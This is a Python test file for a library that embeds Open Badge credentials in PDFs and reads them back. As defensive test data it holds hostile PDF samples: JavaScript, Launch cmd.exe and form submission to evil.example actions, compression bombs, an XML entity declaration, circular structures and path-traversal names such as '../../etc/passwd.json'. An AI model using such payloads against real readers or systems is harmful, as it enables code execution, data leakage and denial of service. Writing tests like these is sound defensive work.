"""Baking into PDF and out again; the rows M09 (active content, bombs, two credentials) and M12 (file names)."""

import hashlib
import io
import struct
import zlib

import pikepdf
import pytest
import typst
from lxml import etree
from tests.unit.openbadge.baking import samples
from tests.unit.openbadge.baking.samples import CREDENTIAL

from openbadge.baking import pdf
from openbadge.errors import OpenBadgeError

JWS = b"eyJhbGciOiJFZERTQSJ9.e30.c2ln"
RDF = "http://www.w3.org/1999/02/22-rdf-syntax-ns#"


def xmp(inside: str) -> str:
    described = f'<rdf:Description xmlns:openbadges="http://openbadges.org/" {inside}</rdf:Description>'
    return f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="{RDF}">{described}</rdf:RDF></x:xmpmeta>'


def code_of(data: bytes) -> str:
    with pytest.raises(OpenBadgeError) as caught:
        pdf.unbake(data)
    return caught.value.code


def opened(data: bytes) -> pikepdf.Pdf:
    return pikepdf.open(io.BytesIO(data))


@pytest.fixture(scope="module")
def certificate() -> bytes:
    """A PDF/A-3 and PDF/UA-1 file from our typesetter, with a credential attached already."""
    source = (
        '#set document(title: "Badge", date: datetime(year: 2026, month: 1, day: 2))\n'
        '#pdf.attach("credential.json", bytes("{\\"proof\\": 1, \\"type\\": []}"), relationship: "source",'
        ' mime-type: "application/json", description: "x")\n= Bravo'
    )
    return typst.compile(source.encode(), format="pdf", pdf_standards=["a-3a", "ua-1"])


@pytest.mark.parametrize("credential", [CREDENTIAL, JWS, b" {}\n", b'{"a":"' + b"x" * 200_000 + b'"}'])
def test_bake_then_unbake_gives_the_same_bytes(credential: bytes) -> None:
    baked = pdf.bake(samples.pdf(), credential)
    assert pdf.unbake(baked).data == credential
    assert pdf.bake(samples.pdf(), credential) == baked


def test_the_credential_stands_in_the_three_places_that_importers_look_at() -> None:
    document = opened(pdf.bake(samples.pdf(), CREDENTIAL))
    text = CREDENTIAL.decode()
    spec = document.attachments["credential.json"]
    assert spec.get_file().read_bytes() == CREDENTIAL
    assert spec.obj["/AFRelationship"] == pikepdf.Name.Source
    assert [item.objgen for item in document.Root.AF] == [spec.obj.objgen]
    assert str(document.docinfo["/openbadges"]) == text
    packet = etree.fromstring(document.Root.Metadata.read_bytes())
    assert [element.text for element in packet.iter("{http://openbadges.org/}assertion")] == [text]
    assert b"openbadges:assertion" in document.Root.Metadata.read_bytes()


def test_each_place_alone_is_enough() -> None:
    assert pdf.unbake(samples.pdf(attached={"credential.json": CREDENTIAL})).keyword == "attachment"
    assert pdf.unbake(samples.pdf(info={"/openbadges": CREDENTIAL.decode()})).data == CREDENTIAL
    assert pdf.unbake(samples.pdf(info={"/openbadge": "https://a.example/1"})).text == "https://a.example/1"
    element = "><openbadges:assertion>{}</openbadges:assertion>"
    assert pdf.unbake(samples.pdf(xmp=xmp(element))).keyword == "openbadges:assertion"
    assert pdf.unbake(samples.pdf(xmp=xmp('openbadges:assertion="a.b.c">'))).text == "a.b.c"


@pytest.mark.parametrize(
    ("name", "data", "found"),
    [
        ("Badge de Zoé.json", b'{"credentialSubject": {}}', True),
        ("assertion.json", b'{"whatever": 1}', True),
        ("x.jsonld", b'{"recipient": 1, "badge": 2}', True),
        ("x.jwt", b"a.b.c\n", True),
        ("documents.json", b'{"https://a.example": "a.json"}', False),
        ("x.json", b"[1]", False),
        ("x.json", b'{"proof": 1, "proof": 2, "type": 3}', False),
        ("notes.bin", b'{"credentialSubject": {}}', False),
    ],
)
def test_which_attached_files_are_credentials(name: str, data: bytes, found: bool) -> None:
    file = samples.pdf(attached={name: data})
    if found:
        assert pdf.unbake(file).data == data
    else:
        assert code_of(file) == "BAKE_NONE"


def test_baking_again_replaces_the_credential_in_every_place(certificate: bytes) -> None:
    again = pdf.bake(pdf.bake(certificate, CREDENTIAL), JWS, name="badge.jwt")
    document = opened(again)
    assert pdf.unbake(again).data == JWS
    assert list(document.attachments.keys()) == ["badge.jwt"]
    assert len(document.Root.AF) == 1
    assert document.Root.Metadata.read_bytes().count(b"<openbadges:assertion>") == 1


def test_other_attached_files_stay() -> None:
    document = opened(pdf.bake(samples.pdf(attached={"a.txt": b"a"}), CREDENTIAL))
    assert sorted(document.attachments.keys()) == ["a.txt", "credential.json"]


def test_an_archivable_file_describes_the_property_that_it_uses(certificate: bytes) -> None:
    document = opened(pdf.bake(pdf.bake(certificate, CREDENTIAL), CREDENTIAL))
    metadata = document.Root.Metadata
    packet = metadata.read_bytes()
    assert metadata.get("/Filter") is None
    assert b"<pdfaid:part>3</pdfaid:part>" in packet
    described = etree.fromstring(packet).iter("{http://www.aiim.org/pdfa/ns/schema#}namespaceURI")
    assert [uri.text for uri in described].count("http://openbadges.org/") == 1
    assert document.attachments["credential.json"].obj.EF.F.Params.ModDate == "D:20260102000000Z"


def test_a_string_of_an_archivable_file_has_a_longest_length(certificate: bytes) -> None:
    long = b'{"a":"' + b"x" * 40_000 + b'"}'
    assert "/openbadges" not in opened(pdf.bake(certificate, long)).docinfo
    assert "/openbadges" in opened(pdf.bake(certificate, CREDENTIAL)).docinfo


def test_what_the_page_shows_is_never_proven() -> None:
    assert pdf.unbake(pdf.bake(samples.pdf(), CREDENTIAL)).notes == ("VISUAL_UNPROVEN",)


ACTIVE = [
    "<</S/JavaScript/JS(app.alert\\(1\\))>>",
    "<</S/Launch/F(cmd.exe)>>",
    "<</S/SubmitForm/F(https://evil.example)>>",
    "<</S/GoToR/F(x.pdf)/D[0/Fit]>>",
    "<</S/URI/URI(\\\\\\\\evil\\\\share)>>",
    "<</XFA[(a)(b)]>>",
    "<</S/J#61vaScript/J#53(x)>>",
]


@pytest.mark.parametrize("action", ACTIVE)
@pytest.mark.parametrize("indirect", [True, False])
def test_m09_active_content_is_told(action: str, indirect: bool) -> None:
    document = opened(pdf.bake(samples.pdf(), CREDENTIAL))
    thing = pikepdf.Object.parse(action.encode())
    document.Root.OpenAction = document.make_indirect(thing) if indirect else thing
    assert pdf.unbake(samples.saved(document)).notes == ("VISUAL_UNPROVEN", "ACTIVE_CONTENT")


def test_m09_two_credentials() -> None:
    one, two = CREDENTIAL.decode(), '{"credentialSubject": 2}'
    element = f"><openbadges:assertion>{two.replace('<', '&lt;')}</openbadges:assertion>"
    for file in (
        samples.pdf(attached={"credential.json": CREDENTIAL, "credential2.json": two.encode()}),
        samples.pdf(attached={"credential.json": CREDENTIAL}, info={"/openbadges": two}),
        samples.pdf(info={"/openbadges": one, "/openbadge": two}),
        samples.pdf(info={"/openbadges": one}, xmp=xmp(element)),
        samples.pdf(info={"/openbadges": "https://a.example/1"}, xmp=xmp(element)),
        samples.pdf(info={"/openbadges": "https://a.example/1", "/openbadge": "https://a.example/2"}),
    ):
        assert code_of(file) == "BAKE_DUPLICATE"


def test_the_same_credential_twice_or_its_address_beside_it_is_one() -> None:
    same = samples.pdf(attached={"credential.json": CREDENTIAL, "credential2.json": CREDENTIAL + b"\n"})
    assert pdf.unbake(same).text.strip() == CREDENTIAL.decode()
    whole = b'{"id": "https://a.example/1", "proof": 1, "type": 1}'
    assert (
        pdf.unbake(samples.pdf(attached={"x.json": whole}, info={"/openbadges": "https://a.example/1"})).data
        == whole
    )


def with_stream(raw: bytes, **keys: object) -> bytes:
    document = opened(samples.pdf(attached={"credential.json": b"x"}))
    stream = document.attachments["credential.json"].obj.EF.F
    stream.write(raw, **keys)
    out = io.BytesIO()
    document.save(out, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)
    return out.getvalue()


def test_m09_an_attached_file_that_inflates_too_far() -> None:
    bomb = zlib.compress(zlib.compress(b"\0" * 200_000_000))
    assert (
        code_of(with_stream(zlib.compress(b"\0" * 30_000_000), filter=pikepdf.Name.FlateDecode))
        == "BAKE_TOO_LARGE"
    )
    twice = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
    assert code_of(with_stream(bomb, filter=twice)) == "BAKE_FILTER"


def test_m09_an_attached_file_that_is_broken() -> None:
    for raw in (b"not zlib", zlib.compress(b"{}" * 999)[:-9]):
        assert code_of(with_stream(raw, filter=pikepdf.Name.FlateDecode)) == "BAKE_PDF"


def test_m09_a_metadata_packet_that_inflates_too_far_or_is_no_xmp() -> None:
    assert code_of(samples.pdf(xmp="<a>" + " " * 5_000_000 + "</a>")) == "BAKE_TOO_LARGE"
    for packet in ("<a>", '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'):
        assert code_of(samples.pdf(xmp=packet)) == "BAKE_XMP"


def test_m09_a_list_of_files_that_runs_in_a_circle() -> None:
    document = pikepdf.new()
    document.add_blank_page()
    node = document.make_indirect(pikepdf.Dictionary())
    node.Kids = pikepdf.Array([node, node])
    document.Root.Names = pikepdf.Dictionary(EmbeddedFiles=node)
    assert code_of(samples.saved(document)) == "BAKE_PDF"


def test_m09_more_attached_files_than_anybody_needs() -> None:
    document = pikepdf.new()
    document.add_blank_page()
    names = pikepdf.Array([pikepdf.String("x")] * 2_002)
    document.Root.Names = pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary(Names=names))
    assert code_of(samples.saved(document)) == "BAKE_TOO_COMPLEX"


def test_m09_more_objects_than_a_certificate_has() -> None:
    document = pikepdf.new()
    document.add_blank_page()
    document.Root.Many = pikepdf.Array([document.make_indirect(pikepdf.Dictionary()) for _ in range(50_001)])
    assert code_of(samples.saved(document)) == "BAKE_TOO_COMPLEX"


def hidden_in_object_stream(padding: int) -> bytes:
    """A file whose page tree stands in an object stream that inflates to `padding` bytes."""

    def stream(number: int, keys: bytes, data: bytes) -> bytes:
        return b"%d 0 obj<<%b/Length %d>>stream\n%b\nendstream endobj\n" % (number, keys, len(data), data)

    catalog = b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 5 0 R>>endobj\n"
    page = b"2 0 obj<</Type/Page/Parent 5 0 R/MediaBox[0 0 9 9]>>endobj\n"
    packed = zlib.compress(b"5 0 <</Type/Pages/Kids[2 0 R]/Count 1>>" + b" " * padding)
    head = catalog + page
    body = head + stream(4, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", packed)
    at = len(body)
    entries = [(0, 0, 65535), (1, 9, 0), (1, len(catalog), 0), (1, at, 0), (1, len(head), 0), (2, 4, 0)]
    table = b"".join(struct.pack(">BIH", *entry) for entry in entries)
    return (
        body + stream(3, b"/Type/XRef/Size 6/W[1 4 2]/Root 1 0 R", table) + b"startxref\n%d\n%%%%EOF\n" % at
    )


def test_m09_an_object_stream_that_inflates_too_far() -> None:
    assert code_of(hidden_in_object_stream(1_000)) == "BAKE_NONE"
    assert code_of(hidden_in_object_stream(100_000_000)) == "BAKE_PDF"


def test_m09_an_encrypted_file() -> None:
    for owner, user in (("o", ""), ("o", "u")):
        out = io.BytesIO()
        opened(samples.pdf()).save(out, encryption=pikepdf.Encryption(owner=owner, user=user))
        assert code_of(out.getvalue()) == "BAKE_ENCRYPTED"


def test_m09_a_file_that_readers_would_have_to_repair() -> None:
    good = pdf.bake(samples.pdf(), CREDENTIAL)
    for broken in (
        good[: len(good) // 2],
        good.replace(b"startxref", b"startxxxx"),
        b"%PDF-1.7\n",
        good[:-30],
    ):
        assert code_of(broken) == "BAKE_PDF"
    assert code_of(b"\n" + good) == "BAKE_PDF"


def test_m09_a_file_over_twenty_megabytes() -> None:
    assert code_of(b"%PDF-1.7" + b"\0" * 20 * 1024 * 1024) == "BAKE_TOO_LARGE"


@pytest.mark.parametrize(
    "name", ["../../etc/passwd.json", "a/b.json", "a\\b.json", "x.exe", "", ".json", "a\0.json", "é.json"]
)
def test_m12_a_file_name_that_is_more_than_a_name(name: str) -> None:
    with pytest.raises(OpenBadgeError) as caught:
        pdf.bake(samples.pdf(), CREDENTIAL, name=name)
    assert caught.value.code == "BAKE_NAME"


def test_m12_the_name_of_an_attached_file_is_never_handed_on() -> None:
    baked = pdf.unbake(samples.pdf(attached={"../../credential.json": CREDENTIAL}))
    assert ".." not in repr(baked)


@pytest.mark.parametrize("credential", [b"\x01{}", b"", b"\xff", "{\ufffe}".encode()])
def test_what_xmp_cannot_carry_is_not_baked(credential: bytes) -> None:
    with pytest.raises(OpenBadgeError) as caught:
        pdf.bake(samples.pdf(), credential)
    assert caught.value.code == "BAKE_TEXT"


def test_the_pages_are_left_as_they_were(certificate: bytes) -> None:
    before, after = opened(certificate), opened(pdf.bake(certificate, CREDENTIAL))
    digests = [hashlib.sha256(file.pages[0].Contents.read_bytes()).digest() for file in (before, after)]
    assert digests[0] == digests[1]
